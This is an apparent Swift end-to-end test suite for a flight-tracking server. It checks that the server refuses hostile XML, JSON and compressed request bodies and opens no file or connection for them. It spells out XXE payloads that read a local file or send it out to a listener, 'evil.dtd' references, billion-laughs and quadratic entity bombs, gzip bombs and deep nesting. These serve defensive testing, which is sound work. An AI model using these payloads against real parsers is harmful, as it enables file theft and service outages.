import Foundation
import NIOHTTP1
import Testing

extension EndToEnd {
    /// A2 over the real server: documents that want files, connections, memory or time, as XML and as JSON, plain and
    /// compressed. Each is refused in the protocol's own words, or read by the rule of docs/protocols; the kernel's record
    /// of the server's calls shows that it opened neither file nor connection for it.
    @Suite(.serialized, .keyedWorld)
    struct HostileLegacyTests {
        /// Processor time that one request may cost; only a hang is longer. The figures are in docs/reliability.md.
        static let guardSeconds = 1.0

        enum Reading: Sendable {
            /// In the words of what is no document.
            case refused
            /// As the plain document is.
            case read
        }

        // MARK: XML

        /// - Parameters:
        ///   - open: What stands between the declaration and the root.
        ///   - inside: What stands in the pilot's element after the number.
        static func document(
            _ open: String = "", _ inside: String = "", declaration: String = "<?xml version=\"1.0\"?>"
        ) -> String {
            "\(declaration)\(open)<kacars><switch><data>verify</data></switch><verify><pilotID>VMS0001\(inside)</pilotID>"
                + "<password>secret</password></verify></kacars>"
        }

        /// - Parameters:
        ///   - file: A file that nothing may open.
        ///   - port: A port that nothing may connect to.
        static func documents(file: String, port: Int) -> [(name: String, body: [UInt8], reading: Reading)] {
            let url = "http://127.0.0.1:\(port)"
            let deep = String(repeating: "<a>", count: 100_000)
            let laughs = (1...9).map { level in
                "<!ENTITY l\(level) \"\(String(repeating: "&l\(level - 1);", count: 10))\">"
            }.joined()
            let long = String(repeating: "A", count: 100_000)
            var texts: [(String, String, Reading)] = [
                ("external entity", document("<!DOCTYPE k [<!ENTITY x SYSTEM \"file://\(file)\">]>", "&x;"), .refused),
                (
                    "external entity over HTTP", document("<!DOCTYPE k [<!ENTITY x SYSTEM \"\(url)/x\">]>", "&x;"),
                    .refused
                ),
                ("external document type", document("<!DOCTYPE kacars SYSTEM \"\(url)/evil.dtd\">"), .refused),
                ("external document type in a file", document("<!DOCTYPE kacars SYSTEM \"file://\(file)\">"), .refused),
                (
                    "public document type", document("<!DOCTYPE kacars PUBLIC \"-//X//Y\" \"\(url)/evil.dtd\">"),
                    .refused
                ),
                (
                    "parameter entity",
                    document("<!DOCTYPE k [<!ENTITY % p SYSTEM \"\(url)/evil.dtd\"> %p; ]>"), .refused
                ),
                (
                    "parameter entity that makes another",
                    document(
                        "<!DOCTYPE k [<!ENTITY % f SYSTEM \"file://\(file)\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '\(url)/?%f;'>\">%e;%s;]>"
                    ), .refused
                ),
                ("billion laughs", document("<!DOCTYPE k [<!ENTITY l0 \"lol\">\(laughs)]>", "&l9;"), .refused),
                (
                    "quadratic blow-up",
                    document("<!DOCTYPE k [<!ENTITY a \"\(long)\">]>", String(repeating: "&a;", count: 50_000)),
                    .refused
                ),
                ("an entity nobody declared", document("", "&x;"), .refused),
                ("an empty document type", document("<!DOCTYPE kacars>"), .refused),
                ("100,000 deep", deep, .refused),
                ("100,000 deep and closed", deep + String(repeating: "</a>", count: 100_000), .refused),
                ("a hundred thousand elements", document("", String(repeating: "<a/>", count: 100_000)), .refused),
                (
                    "ten thousand attributes",
                    document("", "<a \((0..<10_000).map { "b\($0)=\"\"" }.joined(separator: " "))/>"), .refused
                ),
                ("a reference to NUL", document("", "&#0;"), .refused),
                ("UTF-7 that it says it is", "+ADw-kacars+AD4-", .refused),
                (
                    "declared as UTF-7, and is not",
                    document(declaration: "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
                    .read
                ),
                (
                    "declared as UTF-16, and is not",
                    document(declaration: "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"),
                    .read
                ),
                // Control characters are dropped before anything is read.
                ("NUL in a text", document("", "\u{0}"), .read),
                ("CDATA", document("", "<![CDATA[]]>"), .read),
                (
                    "XInclude",
                    document(
                        "",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://\(file)\" parse=\"text\"/>"
                    ),
                    .read
                ),
                (
                    "schema location",
                    document().replacingOccurrences(
                        of: "<kacars>",
                        with:
                            "<kacars xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"\(url)/evil.xsd\">"
                    ), .read
                ),
                ("style sheet", document("<?xml-stylesheet type=\"text/xsl\" href=\"\(url)/evil.xsl\"?>"), .read),
            ]
            texts.append(("nothing", "", .refused))
            var all = texts.map { (name: $0.0, body: Array($0.1.utf8), reading: $0.2) }
            func sixteen(_ text: String, mark: Bool, isLittle: Bool) -> [UInt8] {
                var bytes: [UInt8] = mark ? isLittle ? [0xFF, 0xFE] : [0xFE, 0xFF] : []
                for unit in text.utf16 {
                    let pair = [UInt8(unit >> 8), UInt8(unit & 0xFF)]
                    bytes += isLittle ? pair.reversed() : pair
                }
                return bytes
            }
            let evil = document("<!DOCTYPE k [<!ENTITY x SYSTEM \"file://\(file)\">]>", "&x;")
            // With a mark these bytes are no UTF-8; without one, dropping NUL leaves the plain document.
            all.append(("UTF-16 with a mark", sixteen(document(), mark: true, isLittle: true), .refused))
            all.append(
                ("UTF-16, big end first, with a mark", sixteen(document(), mark: true, isLittle: false), .refused))
            all.append(("UTF-16 without a mark", sixteen(document(), mark: false, isLittle: true), .read))
            all.append(("UTF-16 without a mark, entity", sixteen(evil, mark: false, isLittle: true), .refused))
            return all
        }

        @Test(.timeLimit(.minutes(5)))
        func opensNothingForAnyDocument() async throws {
            let world = try keyedWorld()
            let server = world.airline.server
            let canary = try server.file("canary", "canary-content-5e1f")
            let trap = try Listener()
            let trace = try await SystemCalls.record(of: server, folder: server.folder)
            let pilot = try world.pilot(1)
            let address = "\(server.url)/acars/demo/kacars/k/\(pilot.key)/action.php/kacars_free"
            let report = "\(server.url)/acars/demo/fsfk/k/\(pilot.key)/action.php/fsfk/pirep"
            let plain = try await Web.send("POST", address, body: Array(Self.document().utf8))
            #expect(plain.text.contains("<loginStatus>1</loginStatus>"), "\(plain.text)")

            for (name, body, reading) in Self.documents(file: canary, port: trap.port) {
                let before = server.processorSeconds
                let answer = try await Web.send("POST", address, headers: [("Content-Type", "text/xml")], body: body)
                let cost = server.processorSeconds - before
                print("hostile XML \(name): \(body.count) bytes, at most \(cost) s of processor time")
                #expect(cost < Self.guardSeconds, "\(name)")
                #expect(answer.status == 200, "\(name)")
                switch reading {
                case .refused: #expect(answer.text == "not xml", "\(name): \(answer.text)")
                case .read: #expect(answer.text == plain.text, "\(name): \(answer.text)")
                }
                // The other reader of XML: reports of FS Flight Keeper, in a form.
                let form = "DATA1=FLKEEPER|3.0.1&DATA2=\(String(decoding: body, as: UTF8.self).queryEscaped)"
                let kept = try await Web.send(
                    "POST", report, headers: [("Content-Type", "application/x-www-form-urlencoded")],
                    body: Array(form.utf8))
                if kept.status != 413 {
                    #expect(kept.status == 200 && !kept.text.hasPrefix("1"), "\(name): \(kept.text)")
                }
                for text in [answer.text, kept.text] { #expect(!text.contains("canary-content"), "\(name)") }
            }
            let calls = try await trace.stop()
            // The record is one of this server, and it was on.
            #expect(calls.contains { $0.contains("accept") }, "the record shows no accepted connection")
            for word in [canary, "evil", "/etc/", "\(trap.port)"] {
                #expect(!calls.contains { $0.contains(word) }, "\(word)")
            }
            #expect(!calls.contains { $0.contains("connect(") || $0.contains("socket(") })
            #expect(trap.callers == 0)
            try await world.expectReports(0, of: pilot)
        }

        // MARK: JSON

        static let jsonTexts: [(name: String, text: String)] = [
            ("100,000 lists deep", String(repeating: "[", count: 100_000)),
            ("100,000 objects deep", String(repeating: "{\"a\":", count: 100_000)),
            ("100,000 lists deep in a field", "{\"positions\":\(String(repeating: "[", count: 100_000))"),
            ("a million keys", "{" + (0..<1_000_000).map { "\"\($0 % 100)\":1" }.joined(separator: ",") + "}"),
            ("a lone surrogate", #"{"positions":[{"lat":1,"lon":"\ud800"}]}"#),
            ("surrogates the wrong way round", #"{"positions":[{"lat":1,"lon":2,"status":"\udc00\ud800"}]}"#),
            ("a byte order mark", "\u{FEFF}{\"positions\":[{\"lat\":1,\"lon\":2}]}"),
            ("bytes after the value", #"{"positions":[{"lat":1,"lon":2}]}x"#),
            ("a second value", #"{"positions":[{"lat":1,"lon":2}]}{}"#),
            ("NUL after the value", "{\"positions\":[{\"lat\":1,\"lon\":2}]}\u{0}"),
            ("NaN", #"{"positions":[{"lat":NaN,"lon":2}]}"#),
            ("Infinity", #"{"positions":[{"lat":Infinity,"lon":2}]}"#),
            ("1e400", #"{"positions":[{"lat":1e400,"lon":2}]}"#),
            ("NaN as text", #"{"positions":[{"lat":"NaN","lon":2}]}"#),
            ("a decimal comma", #"{"positions":[{"lat":"1,5","lon":2}]}"#),
            ("off the earth", #"{"positions":[{"lat":12345678901234567890,"lon":2}]}"#),
        ]

        @Test(.timeLimit(.minutes(5)))
        func refusesHostileJSON() async throws {
            let world = try keyedWorld()
            let server = world.airline.server
            let pilot = try world.pilot(2)
            let root = "\(server.url)/acars/demo/phpvms7/api/pireps"
            let headers = [("X-API-Key", pilot.key), ("Content-Type", "application/json")]
            let prefile = try await Web.send(
                "POST", "\(root)/prefile", headers: headers,
                body: Array(
                    #"{"airline_id":1,"aircraft_id":1,"flight_number":"77","dpt_airport_id":"KJFK","arr_airport_id":"KBOS","source":1,"source_name":"vmsacars"}"#
                        .utf8))
            let flight = try #require(try prefile.json()["data"]?["id"]?.text, "\(prefile.text)")
            let address = "\(root)/\(flight)/acars/position"
            // The last of equal names counts, as in PHP; -0 is 0.
            let twice = #"{"positions":[{"lat":95}],"positions":[{"lat":95,"lat":-0,"lon":7}]}"#
            let good = try await Web.send("POST", address, headers: headers, body: Array(twice.utf8))
            #expect(good.status == 200, "\(good.text)")
            for (name, text) in Self.jsonTexts {
                let before = server.processorSeconds
                let answer = try await Web.send("POST", address, headers: headers, body: Array(text.utf8))
                let cost = server.processorSeconds - before
                print("hostile JSON \(name): \(text.utf8.count) bytes, at most \(cost) s of processor time")
                #expect(cost < Self.guardSeconds, "\(name)")
                // A tracker sends a batch that is refused again for ever: a point off the earth is dropped alone.
                if name == "off the earth" {
                    #expect(answer.status == 200, "\(answer.text)")
                    continue
                }
                #expect([400, 413].contains(answer.status), "\(name): \(answer.status) \(answer.text.prefix(300))")
                #expect(try answer.json()["title"]?.text != nil || answer.message != nil, "\(name): \(answer.text)")
            }
            let track = try await Web.send("GET", address, headers: headers)
            let points = try #require(try track.json()["data"]?.items)
            #expect(points.count == 1, "only the good one is kept: \(track.text)")
            #expect(points.first?["lat"]?.number == 0)
        }

        // MARK: Numbers

        /// Texts for a latitude, and what is kept of it; nil is the last good position, held.
        static let latitudes: [(text: String, kept: Double?)] = [
            ("41,5", 41.5), ("41.25", 41.25), ("-0", 0), ("4.1e1", 41), ("NaN", nil), ("Infinity", nil), ("-inf", nil),
            ("1e400", nil), ("12345678901234567890", nil), ("91", nil), ("0x10", nil), ("", nil), ("41.5 N", nil),
        ]

        @Test(.timeLimit(.minutes(5)))
        func keepsTheLastGoodPositionForNumbersThatAreNone() async throws {
            let world = try keyedWorld()
            let server = world.airline.server
            let pilot = try await world.freshPilot()
            let address = "\(server.url)/acars/demo/kacars/k/\(pilot.key)/action.php/kacars_free"
            func update(_ latitude: String, _ altitude: String) -> [UInt8] {
                Array(
                    ("<kacars><switch><data>liveupdate</data></switch><verify><pilotID>\(pilot.ident)</pilotID></verify>"
                        + "<liveupdate><flightNumber>VMS9</flightNumber><registration>N845MJ</registration><depICAO>KJFK</depICAO>"
                        + "<arrICAO>KBOS</arrICAO><latitude>\(latitude)</latitude><longitude>-73</longitude><heading>52</heading>"
                        + "<altitude>\(altitude)</altitude><groundSpeed>300</groundSpeed><status>Climb</status></liveupdate></kacars>")
                        .utf8)
            }
            var last = 40.0
            var altitude = 10_000
            _ = try await Web.send("POST", address, body: update("40", "\(altitude)"))
            for (text, kept) in Self.latitudes {
                altitude += 100
                let answer = try await Web.send("POST", address, body: update(text, "\(altitude)"))
                #expect(answer.status == 200, "\(text)")
                last = kept ?? last
                let wanted = (last, Double(altitude))
                // The map follows the log within a second.
                try await eventually("\(text) on the map") { () -> Bool? in
                    guard let flight = try await world.live(pilot), let text = Optional(flight.canonical) else {
                        return nil
                    }
                    return text.contains("\(Int(wanted.1))") ? true : nil
                }
                let flight = try #require(try await world.live(pilot))
                let latitude = flight["lat"]?.number
                #expect(latitude == wanted.0, "\(text): \(flight.canonical)")
            }
        }

        // MARK: Compressed bodies

        /// Bodies are read as they come: nothing unpacks them, so that what is small stays small.
        @Test(.timeLimit(.minutes(5)))
        func unpacksNothing() async throws {
            let world = try keyedWorld()
            let server = world.airline.server
            let pilot = try world.pilot(1)
            let zeros = [UInt8](repeating: 0x20, count: 20 << 20)
            let bomb = try await gzip(zeros, server)
            #expect(bomb.count * 900 < zeros.count)
            let nested = try await gzip(bomb, server)
            let honest = try await gzip(Array(Self.document().utf8), server)
            let bodies = [
                ("bomb", bomb), ("nested", nested), ("cut", Array(bomb.prefix(bomb.count / 2))), ("honest", honest),
            ]
            for (name, body) in bodies {
                for coding in ["gzip", "deflate", "gzip, gzip"] {
                    let headers = [("Content-Encoding", coding), ("Content-Type", "text/xml")]
                    let before = server.processorSeconds
                    let answer = try await Web.send(
                        "POST", "\(server.url)/acars/demo/kacars/k/\(pilot.key)/action.php/kacars_free",
                        headers: headers, body: body)
                    #expect(answer.text == "not xml", "\(name), \(coding)")
                    let other = try await Web.send(
                        "POST", "\(server.url)/acars/demo/phpvms7/api/pireps/x/acars/position",
                        headers: headers + [("X-API-Key", pilot.key)], body: body)
                    #expect((400..<500).contains(other.status), "\(name), \(coding): \(other.status)")
                    #expect(server.processorSeconds - before < Self.guardSeconds, "\(name), \(coding)")
                }
            }
        }

        private func gzip(_ bytes: [UInt8], _ server: AlbatrossServer) async throws -> [UInt8] {
            let process = try ChildProcess(
                "/bin/gzip", ["-9", "-c"], environment: [:], folder: server.folder, input: bytes)
            #expect(try await process.exitCode(within: .seconds(60)) == 0)
            return Array(try Data(contentsOf: URL(fileURLWithPath: process.outputPath)))
        }

        // MARK: The storm, every adapter

        private static func replacing(_ data: Data, _ word: String, by other: String) -> Data {
            var data = data
            while let range = data.range(of: Data(word.utf8)) { data.replaceSubrange(range, with: Data(other.utf8)) }
            return data
        }

        /// Captured frames of every adapter, mutated, under a key that nobody has: 4xx or the protocol's own word, and
        /// nothing is different afterwards.
        @Test(.timeLimit(.minutes(10)))
        func changesNothingWithoutProof() async throws {
            let world = try keyedWorld()
            let server = world.airline.server
            let staff = try await world.staff()
            func state() async throws -> [String] {
                var lists: [String] = []
                for list in ["flights", "pireps", "schedules", "fleet", "pilots"] {
                    lists.append(JSON.array(try await staff.all(list)).canonical)
                }
                return lists
            }
            let before = try await state()
            var random = RandomSource(seed: 20_261_124)
            var statuses: [Int: Int] = [:]
            let root = "\(Paths.package)/Fixtures/wire"
            for adapter in try FileManager.default.contentsOfDirectory(atPath: root).sorted() {
                let files = try FileManager.default.contentsOfDirectory(atPath: "\(root)/\(adapter)")
                    .filter { $0.hasSuffix(".raw") }.sorted()
                for round in 0..<150 {
                    let file = try #require(files.randomElement(using: &random))
                    let captured = try Data(contentsOf: URL(fileURLWithPath: "\(root)/\(adapter)/\(file)"))
                    // The fixtures' password is a pilot's here.
                    let raw = Self.replacing(captured, "secret", by: "nobody")
                    let text = String(decoding: raw, as: Unicode.ASCII.self)
                    let line = text.prefix { !$0.isNewline }.split(separator: " ")
                    let gap = raw.range(of: Data("\n\n".utf8)) ?? raw.range(of: Data("\r\n\r\n".utf8))
                    let whole = gap.map { Array(raw[$0.upperBound...]) } ?? []
                    let body =
                        round % 2 == 0
                        ? HostileTests.mutatedText(whole, &random)
                        : random.bytes(Int.random(in: 0...500, using: &random))
                    // The key of the fixtures is nobody's here; what is no URL in them is escaped.
                    let target = line[1].addingPercentEncoding(
                        withAllowedCharacters: CharacterSet(charactersIn: "!"..."~").subtracting([
                            "\"", "<", ">", "\\", "^", "`", "{", "|", "}", "#", "[", "]",
                        ]))
                    let answer = try await Web.send(
                        String(line[0]), "\(server.url)/acars/demo/\(adapter)/\(target ?? "")",
                        headers: [("Content-Type", "application/x-www-form-urlencoded")],
                        body: ["GET", "HEAD"].contains(line[0]) ? nil : body)
                    statuses[answer.status, default: 0] += 1
                    #expect(answer.status < 500, "\(adapter)/\(file), round \(round)")
                }
            }
            print("hostile storm: answers by status \(statuses.sorted { $0.key < $1.key })")
            for (was, now) in zip(before, try await state()) {
                #expect(now == was, "\(now.count) and \(was.count) bytes")
            }
        }
    }
}

/// A port that counts who connects.
private final class Listener: Sendable {
    let port: Int
    private let descriptor: Int32

    init() throws {
        let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_NONBLOCK.rawValue), 0)
        self.descriptor = descriptor
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let isBound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(descriptor, $0, length) == 0 && listen(descriptor, 8) == 0
                    && getsockname(descriptor, $0, &length) == 0
            }
        }
        port = Int(UInt16(bigEndian: address.sin_port))
        guard isBound else { throw TimedOut(description: "no port to listen on") }
    }
    deinit { close(descriptor) }

    /// Connections that wait to be taken.
    var callers: Int {
        var count = 0
        while true {
            let caller = accept(descriptor, nil, nil)
            guard caller >= 0 else { return count }
            close(caller)
            count += 1
        }
    }
}

/// What a server asks of the kernel, as strace records it.
private struct SystemCalls: Sendable {
    let process: ChildProcess
    let path: String

    static func record(of server: AlbatrossServer, folder: String) async throws -> SystemCalls {
        let path = "\(folder)/calls-\(UUID().uuidString)"
        let pids = server.pids.flatMap { ["-p", "\($0)"] }
        let process = try ChildProcess(
            "/usr/bin/strace",
            [
                "-f", "-e", "trace=open,openat,openat2,socket,connect,accept,accept4,execve,fork,vfork,clone3", "-s",
                "300", "-o", path,
            ]
                + pids, environment: [:], folder: folder)
        try await eventually("attached strace") { () -> Bool? in
            if !process.isRunning { throw TimedOut(description: "strace ended: \(process.errors)") }
            return process.errors.contains("attached") ? true : nil
        }
        return SystemCalls(process: process, path: path)
    }

    /// Ends the record.
    func stop() async throws -> [String] {
        process.signal(SIGINT)
        _ = try await process.exitCode(within: .seconds(20))
        return try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n").map(String.init)
    }
}

extension AlbatrossServer {
    /// Processor time of the server's processes so far, in steps of a hundredth of a second.
    fileprivate var processorSeconds: Double {
        pids.reduce(0) { sum, pid in
            guard let text = try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8),
                let end = text.lastIndex(of: ")")
            else { return sum }
            let fields = text[text.index(after: end)...].split(separator: " ")
            guard fields.count > 12, let user = Double(fields[11]), let system = Double(fields[12]) else { return sum }
            return sum + (user + system) / Double(sysconf(Int32(_SC_CLK_TCK)))
        }
    }
}
